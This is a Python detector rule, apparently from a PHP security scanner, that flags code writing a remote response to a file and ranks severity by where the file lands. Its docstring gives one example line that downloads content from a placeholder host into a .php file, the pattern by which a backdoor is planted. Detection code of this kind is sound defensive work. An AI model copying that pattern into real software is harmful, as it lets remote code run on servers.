"""# response-to-file.

## What it does
Reports the answer of an outbound call that is written to a file: by file functions, by `copy` of a URL, or by the call
itself (`CURLOPT_FILE`). A file that a server runs, or that lies in the web root, weighs most; temporary files least.

## Why is this bad
A file in the web root can be asked for, and runs when its name says so. This is how a backdoor arrives after the
review of a clean release.

## Example
```php
file_put_contents(__DIR__ . "/cache.php", file_get_contents("https://updates.example.net/rules"));
```

## References
- CWE-434, CWE-494
"""

from __future__ import annotations

from collections.abc import Iterable

from scanner.analysis.state import Output
from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.file_places import in_web_root, is_log, is_program, is_stream, is_temporary
from scanner.detectors.payloads import Weights, payload_findings, responses
from scanner.model.finding import Category, Finding, Severity

RULE = rule("response-to-file", Category.PAYLOAD, "Answer of an outbound call written to a file", __doc__)


def _weigh(scene: Scene, output: Output) -> Weights | None:
    holes = scene.result.state.holes
    if output.effect != "file" or is_stream(output.places, holes):
        return None
    if is_log(output.places, holes) and not is_program(output.places, holes):
        return Weights(Severity.LOW, Severity.INFO)
    if is_program(output.places, holes):
        return Weights(Severity.CRITICAL, Severity.HIGH)
    if in_web_root(output.places, holes):
        return Weights(Severity.HIGH, Severity.MEDIUM)
    if is_temporary(output.places, holes):
        return Weights(Severity.LOW, Severity.INFO)
    return Weights(Severity.MEDIUM, Severity.LOW)


def _find(scene: Scene) -> Iterable[Finding]:
    return payload_findings(scene, RULE, responses, _weigh, "is written")


DETECTOR = Detector(RULE, _find)
